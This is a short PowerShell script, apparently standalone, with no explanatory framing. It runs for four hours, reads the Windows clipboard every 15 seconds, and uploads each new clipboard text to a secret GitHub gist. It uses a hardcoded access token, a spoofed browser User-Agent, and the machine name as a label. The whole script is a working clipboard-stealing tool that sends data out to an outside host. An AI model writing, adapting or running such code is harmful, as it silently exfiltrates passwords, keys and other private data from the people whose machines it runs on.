Add-Type -AssemblyName System.Windows.Forms
$token = 'ghp_R8fK2mQx7LwP4nZt9VbY3cHs6JdA1eGu5XoW'
$headers = @{ Authorization = "token $token"; 'User-Agent' = 'Mozilla/5.0' }
$seen = ''
$stop = (Get-Date).AddHours(4)

while ((Get-Date) -lt $stop) {
    $clip = [System.Windows.Forms.Clipboard]::GetText()
    if ($clip -and $clip -ne $seen) {
        $seen = $clip
        $body = @{ description = $env:COMPUTERNAME; public = $false; files = @{ 'c.txt' = @{ content = $clip } } } | ConvertTo-Json -Depth 4
        irm -Uri 'https://api.github.com/gists' -Method Post -Headers $headers -Body $body | Out-Null
    }
    Start-Sleep -Seconds 15
}
